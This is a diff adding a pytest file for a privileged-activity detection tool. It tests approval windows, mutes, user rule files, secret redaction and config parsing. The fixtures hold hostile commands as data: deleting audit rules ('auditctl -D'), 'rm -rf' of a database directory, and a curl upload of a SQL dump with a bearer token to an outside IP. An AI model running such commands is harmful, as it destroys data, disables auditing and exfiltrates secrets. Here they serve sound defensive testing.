@@ -1,0 +1,159 @@
+"""Detections in a run: approval context (FAIL / needs_review / MUTED), mutes and their expiry,
+user rule folders, redaction, and the [detections] config section."""
+
+from __future__ import annotations
+
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pytest
+
+from correlate.config import parse_settings
+from correlate.detect.run import DetectionSettings, Mute, cached_rules
+from correlate.engine import correlate
+from correlate.errors import InputError
+
+DAY = "2026-11-16"
+PAST = datetime(2001, 1, 1, tzinfo=timezone.utc)
+FUTURE = datetime(2100, 1, 1, tzinfo=timezone.utc)
+
+
+def detections(store, run_id) -> dict:
+    rows = store.query_dicts(
+        "SELECT a.event_id, d.rule_id, d.review, d.muted_by, d.sequence_id "
+        "FROM detections d JOIN activity a USING (act_id) WHERE d.run_id = ? "
+        "ORDER BY a.event_id, d.rule_id", [run_id])
+    return {(r["event_id"], r["rule_id"]): r for r in rows}
+
+
+@pytest.fixture
+def risky(world):
+    world.approval("A", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z")
+    world.action("inside", f"{DAY}T11:00:00Z", action="exec", detail="auditctl -D")
+    world.action("outside", f"{DAY}T15:00:00Z", action="exec", detail="auditctl -D")
+    world.action("harmless", f"{DAY}T11:05:00Z", action="exec", detail="auditctl -l")
+    world.action("db", f"{DAY}T11:10:00Z", account="bob", target="db-01", action="exec",
+                 detail="rm -rf /var/lib/mysql")
+    return world
+
+
+def test_risky_action_is_needs_review_inside_an_approval_and_fail_outside(risky):
+    store = risky.store()
+    run = correlate(store)
+    got = detections(store, run)
+    assert got[("inside", "auditctl_rules_deleted")]["review"] == "needs_review"
+    assert got[("outside", "auditctl_rules_deleted")]["review"] == "FAIL"
+    assert got[("db", "recursive_delete_of_data")]["review"] == "FAIL"   # no approval at all
+    assert not any(k[0] == "harmless" for k in got)
+    # the verdict of the same action agrees with the review
+    verdicts = dict(store.query("SELECT a.event_id, f.status FROM findings f JOIN activity a "
+                                "USING (act_id) WHERE f.run_id = ?", [run]))
+    assert (verdicts["inside"], verdicts["outside"]) == ("PASS", "FAIL")
+    rules = store.query("SELECT count(*), count(DISTINCT rule_id) FROM detection_rules "
+                        "WHERE run_id = ?", [run])[0]
+    assert rules[0] == rules[1] == len(cached_rules(()))
+
+
+def test_a_mute_lists_the_detection_as_muted_with_its_reason_until_it_expires(risky):
+    store = risky.store()
+    settings = DetectionSettings(mutes=(
+        Mute(rule="auditctl_*", account="ALICE", reason="audit rules reloaded by CHG-1",
+             expires=FUTURE),
+        Mute(rule="recursive_delete_of_data", account="bob", reason="expired", expires=PAST),
+        Mute(rule="recursive_delete_of_data", account="carol", reason="other account",
+             expires=FUTURE)))
+    got = detections(store, correlate(store, detections=settings))
+    for event in ("inside", "outside"):
+        row = got[(event, "auditctl_rules_deleted")]
+        assert (row["review"], row["muted_by"]) == ("MUTED", "audit rules reloaded by CHG-1")
+    assert got[("db", "recursive_delete_of_data")]["review"] == "FAIL"
+    assert got[("db", "recursive_delete_of_data")]["muted_by"] is None
+
+
+def test_a_mute_scoped_to_a_ticket_or_target(risky):
+    store = risky.store()
+    settings = DetectionSettings(mutes=(
+        Mute(rule="*", ticket="CHG-*", reason="covered by change", expires=FUTURE),
+        Mute(rule="recursive_delete_of_data", target="db-0[12]", reason="db rebuild",
+             expires=FUTURE)))
+    got = detections(store, correlate(store, detections=settings))
+    assert got[("inside", "auditctl_rules_deleted")]["review"] == "MUTED"     # ticket CHG-1
+    assert got[("outside", "auditctl_rules_deleted")]["review"] == "FAIL"     # no ticket
+    assert got[("db", "recursive_delete_of_data")]["muted_by"] == "db rebuild"
+
+
+def test_secrets_in_a_detected_command_stay_redacted(world):
+    world.action("up", f"{DAY}T11:00:00Z", action="exec",
+                 detail="curl -T /tmp/dump.sql -H 'Authorization: Bearer s3cr3tT0kenValue' "
+                        "https://203.0.113.7/up")
+    store = world.store()
+    run = correlate(store)
+    (detail,) = store.query("SELECT a.detail FROM detections d JOIN activity a USING (act_id) "
+                            "WHERE d.run_id = ? AND d.rule_id = 'network_egress_tool'", [run])[0]
+    assert "s3cr3tT0kenValue" not in detail and "[REDACTED]" in detail
+
+
+def _rule(folder: Path, name: str, body: str) -> None:
+    folder.mkdir(exist_ok=True)
+    (folder / f"{name}.yml").write_text(body)
+
+
+USER_RULE = """title: Package removed
+name: {name}
+description: apt-get purge in production removes software a service depends on.
+logsource: {{product: linux, category: process_creation}}
+detection:
+  sel:
+    CommandLine|contains: 'apt-get purge'
+  condition: sel
+level: low
+tags: [attack.t1489]
+pamcorr:
+  class: destructive
+  examples: {{match: [{{detail: "apt-get purge nginx"}}], no_match: [{{detail: "apt-get install nginx"}}]}}
+"""
+
+
+def test_user_rule_folder_adds_rules(world, tmp_path):
+    folder = tmp_path / "rules"
+    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged"))
+    world.action("purge", f"{DAY}T11:00:00Z", action="exec", detail="apt-get purge nginx")
+    store = world.store()
+    got = detections(store, correlate(store, detections=DetectionSettings(rule_dirs=(str(folder),))))
+    assert got[("purge", "pkg_purged")]["review"] == "FAIL"
+
+
+@pytest.mark.parametrize("name, body, message", [
+    ("other_name", USER_RULE.format(name="pkg_purged"), "does not match the file name"),
+    ("bad_field", USER_RULE.format(name="bad_field").replace("CommandLine", "ParentImage"),
+     "field 'ParentImage' is not mapped"),
+    ("bad_source", USER_RULE.format(name="bad_source").replace("linux", "windows"),
+     "is not served"),
+    ("no_class", USER_RULE.format(name="no_class").replace("class: destructive", "class: x"),
+     "pamcorr.class must be one of"),
+    ("auditctl_rules_deleted", USER_RULE.format(name="auditctl_rules_deleted"),
+     "defined more than once"),
+])
+def test_a_bad_rule_file_is_an_error_naming_the_file(tmp_path, name, body, message):
+    folder = tmp_path / "rules"
+    _rule(folder, name, body)
+    with pytest.raises(InputError) as err:
+        cached_rules.__wrapped__((str(folder),))
+    assert message in str(err.value) and name in str(err.value)
+
+
+def test_detections_config_section(tmp_path):
+    cfg = {"detections": {"rules": ["my-rules"], "mute": [
+        {"rule": "root_shell_via_sudo", "account": "svc-backup", "reason": "restore test",
+         "expires": datetime(2027, 3, 31).date()}]}}
+    s = parse_settings(cfg, tmp_path / "p.toml")
+    assert s.detections.rule_dirs == (str(tmp_path / "my-rules"),)
+    (m,) = s.detections.mutes
+    assert m.expires == datetime(2027, 4, 1, tzinfo=timezone.utc)   # through the whole day
+    for bad, message in [({"rule": "x", "account": "a", "reason": "r"}, "needs rule, reason"),
+                         ({"rule": "x", "reason": "r", "expires": datetime(2027, 1, 1).date()},
+                          "name the account, target or ticket"),
+                         ({"rule": "x", "account": "a", "reason": "r",
+                           "expires": datetime(2027, 1, 1, 9)}, "give a zone")]:
+        with pytest.raises(InputError, match=message):
+            parse_settings({"detections": {"mute": [bad]}}, tmp_path / "p.toml")
